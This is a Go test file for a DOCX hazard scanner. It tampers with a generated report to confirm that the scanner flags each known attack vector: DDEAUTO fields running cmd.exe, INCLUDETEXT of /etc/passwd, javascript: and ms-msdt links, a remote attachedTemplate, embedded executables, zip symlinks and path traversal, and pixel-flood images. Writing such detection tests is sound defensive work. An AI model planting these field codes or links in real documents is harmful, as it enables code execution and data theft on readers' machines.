package docx_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"hash/crc32"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"zhixiao/document/docx"
)

// reportFile is a report as the program writes it.
func reportFile(t testing.TB) []byte { return write(t, newWriter(t), kitchenSink()) }

// tampered is a file with parts changed (or added, given nil) by edits, and with
// what head says of added entries.
func tampered(t testing.TB, data []byte, edits map[string]func(string) string, head func(*zip.FileHeader)) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	put := func(h *zip.FileHeader, text string) {
		to, err := w.CreateHeader(h)
		if err == nil {
			_, err = io.WriteString(to, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	left := map[string]bool{}
	for name := range edits {
		left[name] = true
	}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		s := string(text)
		if edit := edits[f.Name]; edit != nil {
			s = edit(s)
		}
		delete(left, f.Name)
		put(&zip.FileHeader{Name: f.Name, Method: zip.Deflate}, s)
	}
	for name := range left {
		h := &zip.FileHeader{Name: name, Method: zip.Deflate}
		if head != nil {
			head(h)
		}
		put(h, edits[name](""))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func is(text string) func(string) string { return func(string) string { return text } }

// ahead puts text in front of a tag.
func ahead(tag, text string) func(string) string {
	return func(s string) string { return strings.Replace(s, tag, text+tag, 1) }
}

const (
	officeRel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	relsOf    = "word/_rels/document.xml.rels"
	typesOf   = "[Content_Types].xml"
	mainOf    = "word/document.xml"
)

func rel(id, kind, target, mode string) func(string) string {
	return ahead("</Relationships>", `<Relationship Id="`+id+`" Type="`+kind+`" Target="`+target+`"`+mode+`/>`)
}

const external = ` TargetMode="External"`

// inBody adds a paragraph behind the first heading's.
func inBody(runs string) map[string]func(string) string {
	return map[string]func(string) string{mainOf: ahead("<w:sectPr", `<w:p>`+runs+`<w:r><w:t>可疑的一段</w:t></w:r></w:p>`)}
}

func also(edits map[string]func(string) string, name string, edit func(string) string) map[string]func(string) string {
	edits[name] = edit
	return edits
}

func fieldRuns(codes ...string) string {
	s := `<w:r><w:fldChar w:fldCharType="begin"/></w:r>`
	for _, c := range codes {
		if strings.HasPrefix(c, "<") {
			s += c
			continue
		}
		s += `<w:r><w:instrText xml:space="preserve">` + c + `</w:instrText></w:r>`
	}
	return s + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
}

func partOf(name, kind, text string) map[string]func(string) string {
	return map[string]func(string) string{name: is(text), typesOf: ahead("</Types>", `<Override PartName="/`+name+`" ContentType="`+kind+`"/>`)}
}

// TestWhatRunsFetchesOrHidesIsTold puts one thing at a time into a real report. The
// words are what must be told of it, with its place.
func TestWhatRunsFetchesOrHidesIsTold(t *testing.T) {
	whole := reportFile(t)
	const w = "application/vnd.openxmlformats-officedocument.wordprocessingml."
	word := func(body string) string {
		return `<w:x xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">` + body + `</w:x>`
	}
	for name, c := range map[string]struct {
		edits map[string]func(string) string
		words string
	}{
		"DDEAUTO":                  {inBody(fieldRuns(` DDEAUTO c:\\windows\\cmd.exe "/k calc" `)), "可疑的一段”：会取用外部内容、执行命令或来历不明的域DDEAUTO"},
		"dde in small letters":     {inBody(fieldRuns(` dde excel x `)), "域DDE"},
		"a code cut in pieces":     {inBody(fieldRuns(`IN`, `CLUDE`, `TEXT "/etc/passwd"`)), "域INCLUDETEXT"},
		"a code made by a field":   {inBody(fieldRuns(fieldRuns(`QUOTE 68 68 69`), `AUTO c:\\x`)), "域{…}AUTO"},
		"a code in a simple field": {inBody(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://127.0.0.1:9/x.png&quot; \d "><w:r><w:t>图</w:t></w:r></w:fldSimple>`), "域INCLUDEPICTURE"},
		"a code without its field": {inBody(`<w:r><w:instrText>LINK Excel.Sheet.8 x</w:instrText></w:r>`), "域LINK"},
		"a field never ended":      {inBody(`<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IMPORT x</w:instrText></w:r>`), "域IMPORT"},
		"AUTOTEXT":                 {inBody(fieldRuns(`AUTOTEXT 落款`)), "域AUTOTEXT"},
		"a button with a macro":    {inBody(fieldRuns(`MACROBUTTON AutoOpen 点此`)), "域MACROBUTTON"},
		"a database":               {inBody(fieldRuns(`DATABASE \d "x.mdb"`)), "域DATABASE"},
		"a field of tomorrow":      {inBody(fieldRuns(`FETCHNEW "https://x"`)), "域FETCHNEW"},
		"a document to refer to":   {inBody(fieldRuns(`RD \f other.docx`)), "域RD"},
		"a link that runs":         {inBody(fieldRuns(`HYPERLINK "javascript:alert(1)"`)), "链接指向网页、邮箱以外的地方：javascript:alert(1)"},
		"a link after a switch":    {inBody(fieldRuns(`HYPERLINK \l "书签" \o "提示" "file:///c:/x.exe"`)), "链接指向网页、邮箱以外的地方：file:///c:/x.exe"},
		"a link without marks":     {inBody(fieldRuns(`HYPERLINK \\\\server\\share\\x`)), "链接指向网页、邮箱以外的地方"},
		"a deleted code":           {inBody(`<w:del w:id="7"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>DDE a b</w:delInstrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:del>`), "域DDE"},
		"javascript":               {also(inBody(`<w:hyperlink r:id="rIdBad"><w:r><w:t>看</w:t></w:r></w:hyperlink>`), relsOf, rel("rIdBad", officeRel+"hyperlink", "javascript:alert(1)", external)), "可疑的一段”：链接指向网页、邮箱以外的地方：javascript:alert(1)"},
		"a program protocol":       {map[string]func(string) string{relsOf: rel("r9", officeRel+"hyperlink", "ms-msdt:/id PCWDiagnostic", external)}, "链接指向网页、邮箱以外的地方：ms-msdt"},
		"a shared folder":          {map[string]func(string) string{relsOf: rel("r9", officeRel+"hyperlink", `\\server\share\x.lnk`, external)}, "链接指向网页、邮箱以外的地方"},
		"a template":               {map[string]func(string) string{"word/_rels/settings.xml.rels": is(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t" Type="` + officeRel + `attachedTemplate" Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>`)}, "文档设置（word/settings.xml）：引用文件以外的内容（attachedTemplate）：http://127.0.0.1:9/evil.dotm"},
		"a remote picture":         {map[string]func(string) string{relsOf: rel("r9", officeRel+"image", "http://127.0.0.1:9/x.png", external)}, "引用文件以外的内容（image）"},
		"a remote footer":          {map[string]func(string) string{relsOf: rel("r9", officeRel+"footer", "https://x/f.xml", external)}, "引用文件以外的内容（footer）"},
		"an OLE link":              {map[string]func(string) string{relsOf: rel("r9", officeRel+"oleObject", "mhtml:https://x/!x-usc:https://x", external)}, "引用文件以外的内容（oleObject）"},
		"a relation of tomorrow":   {map[string]func(string) string{relsOf: rel("r9", "http://schemas.microsoft.com/office/2031/relationships/agent", "styles.xml", "")}, "不在报告之列的引用（agent）"},
		"an odd mode":              {map[string]func(string) string{relsOf: rel("r9", officeRel+"image", "http://x/y", ` TargetMode="external"`)}, "不合规则的引用"},
		"a part that is not there": {map[string]func(string) string{relsOf: rel("r9", officeRel+"image", "../../etc/passwd", "")}, "引用指向包里没有的部件"},
		"an HTML chunk":            {also(also(inBody(`<w:altChunk r:id="c1"/>`), relsOf, rel("c1", officeRel+"aFChunk", "chunk.html", "")), "word/chunk.html", is("<html><script>alert(1)</script></html>")), "嵌入的另一份文件"},
		"the chunk itself":         {map[string]func(string) string{"word/chunk.html": is("<html><script>alert(1)</script></html>")}, "文件包中的word/chunk.html：嵌入的网页"},
		"an embedded program":      {partOf("word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", "MZ\x90\x00"), "嵌入的可执行文件（MZ）"},
		"a script as data":         {partOf("customXml/item9.xml", "application/xml", "#!/bin/sh\nid"), "可执行脚本（#!）"},
		"a program as a picture":   {partOf("word/media/x.png", "image/png", "\x7fELF\x02"), "图片（word/media/x.png）：内容是可执行文件（ELF）"},
		"no picture at all":        {partOf("word/media/x.jpeg", "image/jpeg", "乱七八糟"), "不是JPG或PNG图像"},
		"an embedded workbook":     {partOf("word/embeddings/a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "PK\x03\x04"), "嵌入的压缩包"},
		"a control":                {partOf("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>`), "不在报告之列的部件（类型application/vnd.ms-office.activex+xml）"},
		"keys that start macros":   {partOf("word/customizations.xml", "application/vnd.ms-word.keyMapCustomizations+xml", "<x/>"), "不在报告之列的部件"},
		"a ribbon of its own":      {partOf("customUI/customUI14.xml", "application/xml", `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="x"/>`), "不在报告之列的部件"},
		"a macro main part": {map[string]func(string) string{typesOf: func(s string) string {
			return strings.Replace(s, w+"document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", 1)
		}}, "不在报告之列的部件（类型application/vnd.ms-word.document.macroenabled.main+xml）"},
		"a main part as data": {map[string]func(string) string{typesOf: func(s string) string {
			return strings.Replace(s, `<Override PartName="/word/document.xml" ContentType="`+w+`document.main+xml"/>`, "", 1)
		}}, "附带数据（word/document.xml）：不在报告之列的部件（类型application/xml）"},
		"a part of no type":        {map[string]func(string) string{"word/payload.dat": is("数据")}, "不在报告之列的部件（类型未登记）"},
		"an SVG":                   {partOf("word/media/x.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"/>`), "SVG图"},
		"mail merge":               {map[string]func(string) string{"word/settings.xml": ahead("</w:settings>", `<w:mailMerge><w:connectString w:val="DSN=x"/><w:query w:val="SELECT 1"/></w:mailMerge>`)}, "文档设置（word/settings.xml）：邮件合并的数据源"},
		"frames":                   {partOf("word/webSettings.xml", w+"webSettings+xml", word(`<w:frameset/>`)), "网页设置（word/webSettings.xml）：网页框架"},
		"another document within":  {inBody(`<w:subDoc r:id="x"/>`), "可疑的一段”：子文档"},
		"an object":                {inBody(`<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link"/></w:object></w:r>`), "嵌入对象"},
		"a form with a macro":      {inBody(`<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar></w:r>`), "宏"},
		"a picture by its address": {inBody(`<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://127.0.0.1:9/x.png"/></v:shape></w:pict></w:r>`), "取用外部内容或执行命令（src）"},
		"a shape that leads away":  {inBody(`<w:r><w:pict><v:rect xmlns:v="urn:schemas-microsoft-com:vml" href="file:///c:/x"/></w:pict></w:r>`), "链接指向网页、邮箱以外的地方：file:///c:/x"},
		"a film from the Web":      {inBody(`<w:r><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=x&gt;"/></w:r>`), "网络视频"},
		"HTML among the words":     {inBody(`<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="http://x"/>`), "不在报告之列的内容"},
		"something in the notes":   {partOf("word/footnotes.xml", w+"footnotes+xml", word(`<w:p>`+fieldRuns(`DDE a b`)+`</w:p>`)), "脚注（word/footnotes.xml）第1段“1”：会取用外部内容"},
		"something in a style":     {map[string]func(string) string{"word/styles.xml": ahead("</w:styles>", `<w:p><w:fldSimple w:instr="DDE a b"/></w:p>`)}, "样式（word/styles.xml）：会取用外部内容"},
		"a stylesheet":             {map[string]func(string) string{"word/settings.xml": ahead("<w:settings", `<?xml-stylesheet href="http://x/y.xsl"?>`)}, "含处理指令xml-stylesheet"},
		"a font that is none":      {partOf("word/fonts/font1.odttf", "application/vnd.openxmlformats-officedocument.obfuscatedFont", "MZ"+strings.Repeat("x", 64)), "不是字体表里登记的字体"},
	} {
		t.Run(name, func(t *testing.T) {
			told := hazards(t, tampered(t, whole, c.edits, nil))
			if !strings.Contains(told, c.words) {
				t.Errorf("told %q, want %q", told, c.words)
			}
		})
	}
}

func hazards(t testing.TB, data []byte) string {
	t.Helper()
	all, err := docx.Hazards(context.Background(), "审稿.docx", data)
	if err != nil {
		return err.Error()
	}
	var lines []string
	for _, h := range all {
		lines = append(lines, h.String())
	}
	return strings.Join(lines, "\n")
}

// TestPackagesThatHideAreTold changes the ZIP file around the report.
func TestPackagesThatHideAreTold(t *testing.T) {
	whole := reportFile(t)
	extra := func(name string, head func(*zip.FileHeader)) []byte {
		return tampered(t, whole, map[string]func(string) string{name: is("/etc/passwd")}, head)
	}
	sealed := bytes.Clone(whole)
	for at := 0; ; at += 4 { // the flag of encryption in every entry of the directory
		next := bytes.Index(sealed[at:], []byte("PK\x01\x02"))
		if next < 0 {
			break
		}
		at += next
		sealed[at+8] |= 1
	}
	broken := bytes.Clone(whole)
	at := bytes.Index(broken, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(broken[at+16:], 12345) // a sum
	for name, c := range map[string]struct {
		data  []byte
		words string
	}{
		"a symbolic link":    {extra("word/media/link.png", func(h *zip.FileHeader) { h.SetMode(fs.ModeSymlink | 0o777) }), "是指向包外的符号链接"},
		"a device":           {extra("word/media/dev.png", func(h *zip.FileHeader) { h.SetMode(fs.ModeDevice | 0o666) }), "不是普通文件"},
		"an absolute path":   {extra("/etc/cron.d/x", nil), "部件用了绝对路径"},
		"a path that climbs": {extra("word/../../x", nil), "部件路径越界"},
		"a drive":            {extra("c:/x.exe", nil), "部件名称不合规则"},
		"a macro":            {extra("word/vbaProject.bin", nil), "文件带宏"},
		"encryption":         {sealed, "加了密"},
		"a wrong sum":        {broken, "部件读不"},
		"a PDF before it":    {append([]byte("%PDF-1.7\n"), whole...), "前面另有内容（PDF文件）"},
		"something behind":   {append(bytes.Clone(whole), "<script>"...), "末尾另有内容"},
		"no list of types":   {packed(`<w:p/>`, map[string]string{"[Content_Types].xml": "<x"}, zip.Deflate), "没有可读的部件类型清单"},
	} {
		if told := hazards(t, c.data); !strings.Contains(told, c.words) {
			t.Errorf("%s: told %q, want %q", name, told, c.words)
		}
	}
}

// flood is a PNG whose head claims so many pixels.
func flood(width, height uint32) string {
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, data []byte) {
		_ = binary.Write(&b, binary.BigEndian, uint32(len(data)))
		whole := append([]byte(kind), data...)
		b.Write(whole)
		_ = binary.Write(&b, binary.BigEndian, crc32.ChecksumIEEE(whole))
	}
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, width), height)
	chunk("IHDR", append(head, 8, 6, 0, 0, 0))
	chunk("IEND", nil)
	return b.String()
}

// A picture that claims more pixels than the program opens is refused by its head.
func TestAFloodOfPixelsIsRefused(t *testing.T) {
	whole := reportFile(t)
	var pictures []string
	z, err := zip.NewReader(bytes.NewReader(whole), int64(len(whole)))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range z.File {
		if strings.HasPrefix(f.Name, "word/media/") {
			pictures = append(pictures, f.Name)
		}
	}
	if len(pictures) == 0 {
		t.Fatal("the report has no picture")
	}
	for _, size := range [][2]uint32{{60000, 60000}, {20000, 20000}, {1, 1 << 30}} {
		data := tampered(t, whole, map[string]func(string) string{pictures[0]: is(flood(size[0], size[1]))}, nil)
		_, err := docx.Read(context.Background(), "审稿.docx", bytes.NewReader(data), int64(len(data)))
		if err == nil || !strings.Contains(err.Error(), "图像过大") || !strings.Contains(err.Error(), pictures[0]) || !strings.Contains(err.Error(), "缩小后再插入") {
			t.Errorf("%v: read says %v", size, err)
		}
		if told := hazards(t, data); !strings.Contains(told, "图像过大") {
			t.Errorf("%v: told %q", size, told)
		}
	}
}

// TestWhatOfficesWriteIsNoHazard: the program's own files, with what Word and WPS
// add when a reviewer works on them.
func TestWhatOfficesWriteIsNoHazard(t *testing.T) {
	whole := reportFile(t)
	if told := hazards(t, whole); told != "" {
		t.Errorf("the program's own file: %s", told)
	}
	issued, err := docx.Issue("x.docx", whole, "仅限朝阳区使用", "朝阳区")
	if err != nil {
		t.Fatal(err)
	}
	if told := hazards(t, issued); told != "" {
		t.Errorf("a numbered copy: %s", told)
	}
	const (
		w  = "application/vnd.openxmlformats-officedocument.wordprocessingml."
		ns = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
	)
	var types, rels strings.Builder
	edits := map[string]func(string) string{}
	add := func(name, kind, relation, text string) {
		edits[name] = is(text)
		types.WriteString(`<Override PartName="/` + name + `" ContentType="` + kind + `"/>`)
		rels.WriteString(`<Relationship Id="rW` + strings.NewReplacer("/", "", ".", "").Replace(name) + `" Type="` + relation + `" Target="/` + name + `"/>`)
	}
	add("word/comments.xml", w+"comments+xml", officeRel+"comments", `<w:comments `+ns+`><w:comment w:id="1" w:author="王"><w:p><w:r><w:t>请核</w:t></w:r></w:p></w:comment></w:comments>`)
	add("word/commentsExtended.xml", w+"commentsExtended+xml", "http://schemas.microsoft.com/office/2011/relationships/commentsExtended", `<w15:commentsEx xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>`)
	add("word/people.xml", w+"people+xml", "http://schemas.microsoft.com/office/2011/relationships/people", `<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"><w15:person w15:author="王"><w15:presenceInfo w15:providerId="None" w15:userId="王"/></w15:person></w15:people>`)
	add("word/footnotes.xml", w+"footnotes+xml", officeRel+"footnotes", `<w:footnotes `+ns+`><w:footnote w:id="2"><w:p><w:r><w:footnoteRef/></w:r><w:r><w:t>见附表</w:t></w:r></w:p></w:footnote></w:footnotes>`)
	add("word/webSettings.xml", w+"webSettings+xml", officeRel+"webSettings", `<w:webSettings `+ns+`><w:optimizeForBrowser/></w:webSettings>`)
	add("word/theme/theme1.xml", "application/vnd.openxmlformats-officedocument.theme+xml", officeRel+"theme", `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"><a:extLst><a:ext uri="{05A4C25C-085E-4340-85A3-A5531E510DB2}"><thm15:themeFamily xmlns:thm15="http://schemas.microsoft.com/office/thememl/2012/main" name="Office Theme" id="{x}" vid="{y}"/></a:ext></a:extLst></a:theme>`)
	add("customXml/item1.xml", "application/xml", officeRel+"customXml", `<s:customData xmlns="http://www.wps.cn/officeDocument/2013/wpsCustomData" xmlns:s="http://www.wps.cn/officeDocument/2013/wpsCustomData"><extobjs/></s:customData>`)
	add("customXml/itemProps1.xml", "application/vnd.openxmlformats-officedocument.customXmlProperties+xml", officeRel+"customXmlProps", `<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{B}"/>`)
	edits[typesOf] = ahead("</Types>", types.String())
	links := `<Relationship Id="l1" Type="` + officeRel + `hyperlink" Target="https://www.beijing.gov.cn/" TargetMode="External"/><Relationship Id="l2" Type="` + officeRel + `hyperlink" Target="mailto:a@b.cn" TargetMode="External"/><Relationship Id="l3" Type="` + officeRel + `hyperlink" Target="#_Toc1" TargetMode="External"/>`
	edits[relsOf] = ahead("</Relationships>", rels.String()+links)
	edits[mainOf] = ahead("<w:sectPr", `<w:p><w:hyperlink r:id="l1"><w:r><w:t>首都之窗</w:t></w:r></w:hyperlink>`+
		fieldRuns(` HYPERLINK "https://www.beijing.gov.cn" \o "a.exe" \t "_blank" `)+fieldRuns(` HYPERLINK \l "_Toc2" `)+fieldRuns(` SEQ 图 \* ARABIC `)+fieldRuns(` REF _Ref1 \h `)+
		fieldRuns(` =SUM(ABOVE) \# "0.00" `)+fieldRuns(` = `, fieldRuns(` NUMPAGES `), ` - 1 `)+fieldRuns(``)+
		`<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" w:element="place"><w:r><w:t>北京</w:t></w:r></w:smartTag>`+
		`<w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" Requires="wps"><wps:txbx><w:txbxContent><w:p><w:r><w:t>框</w:t></w:r></w:p></w:txbxContent></wps:txbx></mc:Choice><mc:Fallback><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" style="position:absolute" o:spid="_x0000_s1026" href="https://www.beijing.gov.cn"><v:path on="t"/></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r></w:p>`)
	if told := hazards(t, tampered(t, whole, edits, nil)); told != "" {
		t.Errorf("what Word and WPS add: %s", told)
	}
}

// TestWhatLibreOfficeWritesIsNoHazard saves the program's file with LibreOffice.
func TestWhatLibreOfficeWritesIsNoHazard(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil || testing.Short() {
		t.Skip("LibreOffice is not here")
	}
	dir := t.TempDir()
	in := filepath.Join(dir, "in.docx")
	if err := os.WriteFile(in, reportFile(t), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(soffice, "--headless", "--norestore", "-env:UserInstallation=file://"+dir+"/profile", "--convert-to", "docx:MS Word 2007 XML", "--outdir", filepath.Join(dir, "out"), in)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("LibreOffice does not run: %v: %s", err, out)
	}
	data, err := os.ReadFile(filepath.Join(dir, "out", "in.docx"))
	if err != nil {
		t.Fatal(err)
	}
	if told := hazards(t, data); told != "" {
		t.Error(told)
	}
}
